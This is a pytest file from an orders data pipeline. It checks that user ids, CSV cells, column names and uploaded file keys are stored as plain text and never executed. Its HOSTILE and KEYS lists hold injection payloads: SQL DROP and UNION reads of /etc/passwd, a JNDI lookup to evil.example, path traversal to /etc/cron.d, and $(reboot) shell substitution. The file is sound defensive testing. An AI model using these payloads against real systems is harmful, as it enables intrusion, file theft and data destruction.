"""An id, a cell, a column or a file's name is never taken for anything but a text."""

from __future__ import annotations

import csv
import io
import json

import boto3
import duckdb
import pytest

import serving_support as support
from patronage.logic.queries import identifier, literal
from patronage.logic.serve.keys import item_key
from patronage.logic.upload_keys import report_key
from patronage.steps import ingest as steps
from patronage.steps.erase.exporting import write_zip
from patronage.steps.erase.subject import Subject
from patronage.stores.objects import FolderStore
from tests_support import some

HOSTILE = [
    "'; DROP TABLE orders; --",
    "' OR '1'='1",
    '" OR ""="',
    "$id",
    "{id}",
    "?",
    "%s%n",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "ann' UNION SELECT * FROM read_text('/etc/passwd') --",
    "../../../etc/passwd",
    "ann#run",
    "run#ann",
    "<script>alert(1)</script>",
    "=HYPERLINK(A1)",
    "ann*",
    "ann\\",
]
"""Texts that mean something to SQL, to a template, to a shell, to a page or to a key of ours."""
HEADER = "order_id,customer_id,product_id,quantity,unit_price,ordered_at\n"
ROW = ("o1", "c1", "p1", "1", "2.50", "2026-01-02")


def table_of(*rows):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def lake_rows(lake, select):
    files = [str(path) for path in lake.snapshot("orders").files()]
    return duckdb.execute(f"SELECT {select} FROM read_parquet(?) ORDER BY ALL", [files]).fetchall()


@pytest.fixture
def lookup(client):
    return support.fresh_function("lookup")


@pytest.mark.usefixtures("published")
@pytest.mark.parametrize("hostile", HOSTILE)
def test_an_id_reaches_nobody_else_s_item(lookup, hostile):
    name = "ministack-rest-recommendations-by-query"
    answer = lookup(support.event(name, queryStringParameters={"user_id": hostile}))
    body = json.loads(answer["body"])
    assert (answer["statusCode"], body["user_id"]) == (200, hostile)
    assert "user" not in {item["rung"] for item in body["items"]}


def test_no_id_makes_the_key_of_another_kind():
    for kind, scope in [("user", "run"), ("session", "open"), ("session", "proved"), ("session", "user")]:
        for name in ["ann", "run#ann", "proved#s", "#", "", *HOSTILE]:
            assert item_key(kind, scope, name).split("#", 2) == [kind, scope, name]


def test_cells_that_are_sql_pass_byte_for_byte_and_are_run_by_nobody(ingest_text, lake):
    rows = [(f"{number} {text}", text, text, *ROW[3:]) for number, text in enumerate(HOSTILE)]
    report = ingest_text(HEADER + table_of(*rows))
    assert (report["kept"], report["refused"]) == (len(HOSTILE), 0)
    assert set(lake_rows(lake, "order_id, customer_id, product_id")) == {row[:3] for row in rows}


def as_csv(row, _):
    return table_of(row.keys(), row.values())


def as_json(row, _):
    return json.dumps([row])


def as_parquet(row, path):
    columns = ", ".join(f"{literal(cell)} AS {identifier(name)}" for name, cell in row.items())
    duckdb.sql(f"SELECT {columns}").write_parquet(str(path))
    return path.read_bytes()


@pytest.mark.parametrize("form", [as_csv, as_json, as_parquet])
@pytest.mark.parametrize("hostile", some(HOSTILE, every=2))
def test_a_column_s_name_that_is_sql_is_a_column_s_name(ingest_text, lake, tmp_path, form, hostile):
    row = dict(zip(HEADER.strip().split(","), ROW, strict=True)) | {hostile: hostile}
    report = ingest_text(form(row, tmp_path / "rows.parquet"))
    assert report["kept"] == 1
    assert lake_rows(lake, "order_id, customer_id") == [("o1", "c1")]


@pytest.mark.parametrize("hostile", some(HOSTILE, every=2))
def test_an_export_of_one_customer_holds_no_other_s_rows(lake_of_two, shop, tmp_path, hostile):
    export = tmp_path / "export.zip"
    assert write_zip(export, Subject(customer_id=hostile), lake_of_two, shop, {}) == {}
    found = write_zip(
        export, Subject(customer_id="c2", session_ids=frozenset({hostile})), lake_of_two, shop, {}
    )
    assert found == {"orders.csv": 1}


@pytest.fixture
def lake_of_two(ingest_text, lake):
    ingest_text(HEADER + table_of(("o1", "c1", "p1", *ROW[3:]), ("o2", "c2", "p2", *ROW[3:])))
    return lake


KEYS = [
    "raw/orders/../../../../etc/cron.d/orders.csv",
    "raw/orders/..",
    "raw/orders/.",
    "raw/orders//orders.csv",
    "raw/orders/" + "x" * 900 + ".csv",
    "raw/orders/'; DROP TABLE orders; --.csv",
    "raw/orders/[a]*?{b}.csv",
    "raw/orders/$(reboot) `reboot` ${HOME}.csv",
    "raw/orders/a%2F..%2Fb+c.csv",
    "raw/orders/-rf.csv",
]


@pytest.fixture
def upload(client, tmp_path, monkeypatch):
    """Give a function that uploads under a key and delivers the event; the lake is a local folder."""
    s3 = boto3.client("s3")
    s3.create_bucket(Bucket="raw-bucket")
    s3.put_bucket_versioning(Bucket="raw-bucket", VersioningConfiguration={"Status": "Enabled"})
    handler = support.fresh_function("ingest")

    class Lake(FolderStore):
        def close(self) -> None:
            """Keep the folder."""

    monkeypatch.setattr("patronage.runtime.lake", lambda: Lake(tmp_path / "lake"))
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()

    def deliver(content, key):
        version = s3.put_object(Bucket="raw-bucket", Key=key, Body=content)["VersionId"]
        uploaded = {"key": key, "version-id": version, "etag": "e"}
        detail = {"bucket": {"name": "raw-bucket"}, "object": uploaded}
        record = {"messageId": "m1", "eventSource": "aws:sqs", "body": json.dumps({"detail": detail})}
        answer = handler({"Records": [record]})
        report = tmp_path / "lake" / report_key(steps.object_id(key, version))
        return answer, json.loads(report.read_bytes())

    return deliver


@pytest.mark.parametrize("key", some(KEYS, every=2))
@pytest.mark.parametrize("form", [as_csv, as_parquet])
def test_a_file_s_name_leads_nowhere_and_stops_no_upload(upload, tmp_path, key, form):
    row = dict(zip(HEADER.strip().split(","), ROW, strict=True))
    content = form(row, tmp_path / "rows")
    content = content.encode() if isinstance(content, str) else content
    answer, report = upload(content, key)
    assert answer == {"batchItemFailures": []}
    assert (report["key"], report["state"], report["kept"]) == (key, "done", 1)
    made = {path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*") if path.is_file()}
    assert made <= {"lake", "rows"}
    assert not list((tmp_path / "tmp").iterdir())
